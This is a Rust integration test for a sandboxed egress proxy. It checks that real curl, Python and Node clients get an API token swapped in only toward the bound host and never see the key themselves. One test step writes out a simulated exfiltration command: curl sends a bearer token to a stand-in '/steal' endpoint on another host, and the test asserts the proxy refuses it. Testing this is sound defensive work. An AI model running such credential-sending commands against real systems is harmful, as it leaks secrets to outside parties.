//! Issue 4's acceptance with real parts end to end: the real helper (private bus, see
//! `testkit::helper`) builds real sandboxes, the gateway's egress proxy serves them, a
//! fake HTTPS upstream in its own network namespace (`testkit::upstream`) records what arrives, and
//! real clients run inside the sandboxes: `curl` and Python's `urllib` through `HTTPS_PROXY`,
//! Node's built-in `fetch` (which ignores proxy variables) in transparent mode.
//!
//! The sandbox's proxy address (N.1) is chosen by the helper, so the spec's environment says
//! `@GIGMCP_PROXY_ADDR@` (`privhelper_api::PROXY_ADDR_TOKEN`) and the helper substitutes it.
//! The proxy listener is the helper's, bound on `host_addr:PROXY_PORT` before the client starts
//! and served by the gateway once `CreateSandbox` returns (the backlog holds an early
//! connection); the Python client still waits for a line on stdin before it fetches.
//!
//! The fixture (gateway side, upstream namespace, client rootfs, one sandboxed run) is
//! `testkit::sandbox_egress`; what the clients do and what must never happen is here.
//!
//! Root only (namespaces, nftables, cgroups): a loud SKIP without root, a failure on CI.

use privhelper_api::PROXY_ADDR_TOKEN;
use std::path::Path;
use testkit::egress::{TOKEN_VALUE, contains};
use testkit::helper::{Harness, PROXY_PORT};
use testkit::sandbox_egress::*;

/// The Python client: waits for the proxy (a line on stdin), prints its environment, then
/// fetches through `HTTPS_PROXY` with the placeholder from the environment.
const PY_CLIENT: &str = r#"import os, sys, urllib.request
sys.stdin.readline()
print('ENV', sorted(os.environ.items()))
req = urllib.request.Request('https://api.test.example/echo?c=python',
    headers={'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})
with urllib.request.urlopen(req, timeout=30) as r:
    print('STATUS', r.status)
    print(r.headers)
    print(r.read().decode('utf-8', 'replace'))
"#;

/// Every file under `dir` (the images: the sandbox's whole filesystem besides tmpfs) without the
/// key.
fn assert_no_file_holds_key(dir: &Path) {
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let ty = e.file_type().unwrap();
        if ty.is_dir() {
            assert_no_file_holds_key(&e.path());
        } else if ty.is_file() {
            let data = std::fs::read(e.path()).unwrap();
            assert!(
                !contains(&data, TOKEN_VALUE.as_bytes()),
                "{} holds the key",
                e.path().display()
            );
        }
    }
}

fn authorization_seen(gw: &Gateway, path: &str) -> Option<Vec<u8>> {
    gw.upstream
        .seen()
        .iter()
        .find(|s| s.path_and_query.starts_with(path))
        .map(|s| s.header("authorization").unwrap_or_default().to_vec())
}

#[test]
fn real_clients_in_real_sandboxes_get_the_key_swapped_in_and_never_see_it() {
    testkit::privileged(
        "real_clients_in_real_sandboxes_get_the_key_swapped_in_and_never_see_it",
        4,
        || async {
            let h = Harness::start(0).await;
            let client = h.client().await;
            let gw = Gateway::start(&h).await;
            let t0 = std::time::Instant::now();
            let image = build_rootfs(&h);
            eprintln!("client rootfs built in {:?}", t0.elapsed());
            let bearer_key = format!("Bearer {TOKEN_VALUE}").into_bytes();

            // 1. curl through HTTPS_PROXY; the header comes from the environment (via sh).
            let curl = run_in_sandbox(
                &h,
                &client,
                &gw,
                &image,
                &[
                    "/bin/sh",
                    "-c",
                    "exec curl -sS -v --retry 10 --retry-connrefused --retry-delay 1 --max-time 30 \
                 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.test.example/echo?c=curl",
                ],
                false,
            )
            .await;
            curl.assert_never_saw_key("curl");
            assert_eq!(
                authorization_seen(&gw, "/echo?c=curl")
                    .expect("curl's request reached the upstream"),
                bearer_key
            );
            // The upstream echoed the header back: the sandbox got the placeholder instead.
            assert!(
                curl.out()
                    .contains(&format!("x-echo-authorization: Bearer {}", gw.ph))
                    || curl
                        .err()
                        .contains(&format!("x-echo-authorization: Bearer {}", gw.ph)),
                "echo not scrubbed back to the placeholder"
            );
            assert!(
                curl.err().contains("CONNECT api.test.example:443"),
                "curl did not use the proxy"
            );

            // 2. Python's urllib through HTTPS_PROXY; it also prints its environment.
            let py = run_in_sandbox(
                &h,
                &client,
                &gw,
                &image,
                &["/usr/bin/python3", "-I", "-S", "-c", PY_CLIENT],
                false,
            )
            .await;
            py.assert_never_saw_key("python");
            assert!(py.out().contains("STATUS 200"), "python failed");
            assert_eq!(
                authorization_seen(&gw, "/echo?c=python")
                    .expect("python's request reached the upstream"),
                bearer_key
            );
            // The helper substituted N.1, and only there.
            let proxy_url = format!("http://{}:{PROXY_PORT}", py.host_addr);
            assert!(
                py.out()
                    .contains(&format!("('HTTPS_PROXY', '{proxy_url}')")),
                "HTTPS_PROXY not substituted"
            );
            assert!(py.out().contains(&format!("('GITHUB_TOKEN', '{}')", gw.ph)));
            assert!(!py.out().contains(PROXY_ADDR_TOKEN));
            assert!(
                py.out()
                    .contains(&format!("('NOT_EXPANDED', '{NOT_EXPANDED}')")),
                "a value without the exact token was changed"
            );

            // 3. Node's built-in fetch ignores HTTPS_PROXY: transparent mode serves it.
            let node = run_in_sandbox(
                &h,
                &client,
                &gw,
                &image,
                &[
                    "/bin/node",
                    "-e",
                    "fetch('https://api.test.example/echo?c=node', \
                   {headers: {authorization: 'Bearer ' + process.env.GITHUB_TOKEN}})\
                 .then(async r => { console.log('STATUS', r.status); \
                   for (const [k, v] of r.headers) console.log(k + ': ' + v); \
                   console.log(await r.text()); })\
                 .catch(e => { console.error('FETCH ERROR', e, e.cause); process.exitCode = 1; });",
                ],
                true,
            )
            .await;
            node.assert_never_saw_key("node");
            assert!(node.out().contains("STATUS 200"), "node fetch failed");
            assert_eq!(
                authorization_seen(&gw, "/echo?c=node")
                    .expect("node's request reached the upstream"),
                bearer_key
            );
            assert!(
                node.out()
                    .contains(&format!("x-echo-authorization: Bearer {}", gw.ph))
            );

            // Node came in through the transparent listener (host from SNI), not the proxy port.
            let events = gw.audit().await;
            assert!(
                events.iter().any(|e| e.action == "egress.connect"
                    && e.target == "api.test.example:443"
                    && e.detail.contains("kind=transparent")),
                "no transparent-mode connection audited: {events:#?}"
            );

            // 4. The placeholder sent to an allowlisted host it is not bound to: refused, audited,
            //    nothing reaches the upstream.
            let before = gw.upstream.seen().len();
            let exfil = run_in_sandbox(
                &h,
                &client,
                &gw,
                &image,
                &[
                    "/bin/sh",
                    "-c",
                    "exec curl -sS --retry 10 --retry-connrefused --retry-delay 1 --max-time 30 \
                 -o /dev/null -w '%{http_code}' \
                 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://other.test.example/steal",
                ],
                false,
            )
            .await;
            exfil.assert_never_saw_key("exfiltration attempt");
            assert_eq!(exfil.out(), "403");
            assert_eq!(
                gw.upstream.seen().len(),
                before,
                "the request reached the upstream"
            );
            assert!(!gw.upstream.ever_saw(gw.ph.as_bytes()));
            let events = gw.audit().await;
            assert!(
                events.iter().any(|e| e.action == "egress.denied"
                    && e.target.contains("other.test.example")
                    && e.detail.contains("API_TOKEN")),
                "exfiltration not audited: {events:#?}"
            );

            // 5. A direct connection to the upstream, bypassing the proxy: no route.
            let upstream_addr = gw.net.upstream_ip();
            let direct = run_in_sandbox(
                &h,
                &client,
                &gw,
                &image,
                &[
                    "/bin/curl",
                    "-sS",
                    "--noproxy",
                    "*",
                    "--connect-timeout",
                    "5",
                    "-k",
                    &format!("https://{upstream_addr}/direct"),
                ],
                false,
            )
            .await;
            assert!(
                direct.err().contains("Couldn't connect") || direct.err().contains("nreachable"),
                "direct connection did not fail to connect: {}",
                direct.err()
            );
            assert_eq!(
                gw.upstream.seen().len(),
                before,
                "the direct request arrived"
            );

            // Nowhere in the sandbox's filesystem.
            assert_no_file_holds_key(&h.images);
            // And the upstream saw the key exactly where declared: three requests, each in the header.
            let with_key = gw
                .upstream
                .seen()
                .iter()
                .filter(|s| contains(&s.all_bytes(), TOKEN_VALUE.as_bytes()))
                .count();
            assert_eq!(with_key, 3);
        },
    );
}
